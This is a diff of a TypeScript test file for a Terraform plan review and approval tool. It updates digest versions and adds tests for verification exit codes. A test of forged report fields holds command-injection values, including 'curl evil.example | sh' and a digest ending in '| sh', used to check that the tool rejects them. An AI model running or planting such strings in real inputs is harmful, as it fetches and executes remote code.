@@ -27,7 +27,7 @@ const text = readFileSync(plan, "utf8");
 
 /** Change of an object in a plan. */
 interface Row {
-  readonly change: { readonly actions: readonly string[] };
+  readonly change: { readonly actions: readonly string[]; readonly before: unknown };
 }
 
 let folder: string;
@@ -73,7 +73,8 @@ describe.each([
   });
 
   test("0: no changes, with --detailed-exitcode too", async () => {
-    const empty = planWith({ resource_changes: [], resource_drift: [], output_changes: {} });
+    const without = { prior_state: {}, planned_values: {}, configuration: {}, output_changes: {} };
+    const empty = planWith({ ...without, resource_changes: [], resource_drift: [] });
     expect((await review("--in", empty, "--detailed-exitcode")).code).toBe(0);
   });
 
@@ -133,12 +134,12 @@ describe.each([
   });
 
   test("0: a plan that exceeds the maximum length of a string is read in parts", async () => {
-    const [start = "", values = "", ...rest] = text.split(/("planned_values":)/);
-    const path = file("large.json", `${start}${values}{"a":"`);
-    truncateSync(path, 600 * 1024 ** 2);
-    appendFileSync(path, `"},"later":${rest.join("")}`);
+    const path = file("large.json", "");
+    const spaces = Buffer.alloc(6 * 1024 ** 2, " ");
+    for (let count = 0; count < 100; count++) appendFileSync(path, spaces);
+    appendFileSync(path, text);
     const ran = await review("--in", `net=${path}`, "--fail-on", "none");
-    expect([ran.code, ran.report?.plans[0]?.unknownParts]).toEqual([0, ["later"]]);
+    expect(ran.code).toBe(0);
     await review("--in", `net=${plan}`, "--fail-on", "none");
     expect(ran.report?.changes).toEqual(report().changes);
   });
@@ -305,7 +306,7 @@ describe.each([
       mkdirSync(at("deep/er"), { recursive: true });
       writeFileSync(old, content);
       await run(["--in", plan, "--out", `md:${old}`, "--out", `sarif:${at("new/report.sarif")}`]);
-      expect(readFileSync(old, "utf8")).toMatch(/^## 🛑 Blocked[\s\S]*Approval digest: `kr1-[0-9a-f]{64}`/);
+      expect(readFileSync(old, "utf8")).toMatch(/^## 🛑 Blocked[\s\S]*Approval digest: `kr2-[0-9a-f]{64}`/);
       expect(JSON.parse(readFileSync(at("new/report.sarif"), "utf8")).version).toBe("2.1.0");
     }
   });
@@ -337,7 +338,8 @@ describe.each([
 
   test("2: a plan with only an action has changes", async () => {
     const actions = JSON.parse(readFileSync(join(fixtures, "terraform-actions.json"), "utf8"));
-    const only = file("only.json", { ...actions, resource_changes: [] });
+    const without = { prior_state: {}, planned_values: {}, configuration: {} };
+    const only = file("only.json", { ...actions, ...without, resource_changes: [] });
     expect((await review("--in", only, "--fail-on", "none", "--detailed-exitcode")).code).toBe(2);
   });
 
@@ -347,7 +349,7 @@ describe.each([
     const [finding] = whole.findings;
     const forged = [
       { findings: [{ ...finding, rule: "DATA-01; curl evil.example | sh" }] },
-      { approval: { ...whole.approval, digest: "kr1-0 | sh" } },
+      { approval: { ...whole.approval, digest: "kr2-0 | sh" } },
       { verdict: { ...whole.verdict, code: 256 } },
     ];
     for (const part of forged)
@@ -374,14 +376,22 @@ describe.each([
     test("0: the approved plan, made from the reviewed state", async () => {
       const digest = await approved(plan);
       const ran = await verify("--in", plan, "--approved", digest, "--report", at("report.json"));
-      expect([ran.code, ran.stdout]).toEqual([0, "These are the approved plans, with 9 changes.\n"]);
+      expect([ran.code, ran.stdout]).toEqual([
+        0,
+        expect.stringMatching(/^These are the approved plans, with 9 changes\.\nIt covers only .* sensitive/),
+      ]);
     });
 
     test("5: another plan; the outputs show it, and what changed since the approved one", async () => {
       const digest = await approved(plan);
       const { resource_changes: rows } = JSON.parse(text);
       const less = planWith({
-        resource_changes: rows.filter(({ change }: Row) => change.actions[0] !== "update"),
+        planned_values: undefined,
+        resource_changes: rows.map((row: Row) =>
+          row.change.actions[0] === "update"
+            ? { ...row, change: { ...row.change, actions: ["no-op"], after: row.change.before } }
+            : row,
+        ),
       });
       const ran = await verify(
         "--in",
@@ -430,6 +440,21 @@ describe.each([
       expect([ran.code, ran.stderr]).toEqual([5, expect.stringContaining("other is not in the report")]);
     });
 
+    test("5: a digest of an earlier version, with that reason", async () => {
+      const digest = await approved(plan);
+      const ran = await verify("--in", plan, "--approved", digest.replace("kr2-", "kr1-"));
+      expect([ran.code, ran.stderr]).toEqual([5, expect.stringContaining("digest is of version kr1")]);
+    });
+
+    test("4: --require-covered, if the digest does not cover every effect; else 0, and the output names them", async () => {
+      const actions = join(fixtures, "terraform-actions.json");
+      const digest = await approved(actions);
+      const passed = await verify("--in", actions, "--approved", digest);
+      expect([passed.code, passed.stdout]).toEqual([0, expect.stringContaining("It does not cover: ")]);
+      const refused = await verify("--in", actions, "--approved", digest, "--require-covered");
+      expect([refused.code, refused.stderr]).toEqual([4, expect.stringContaining("It does not cover: ")]);
+    });
+
     test("4: a plan that cannot be reviewed, even if its digest is approved", async () => {
       const partial = planWith({ complete: false });
       const digest = await approved(partial);
@@ -448,7 +473,7 @@ describe.each([
       };
       const other = planWith({ resource_changes: [unknown, ...others] });
       for (const [path, approved] of [
-        [other, "kr1-0"],
+        [other, "kr2-0"],
         [plan, hostile],
       ] as const) {
         const { stderr } = await verify("--in", path, "--approved", approved);
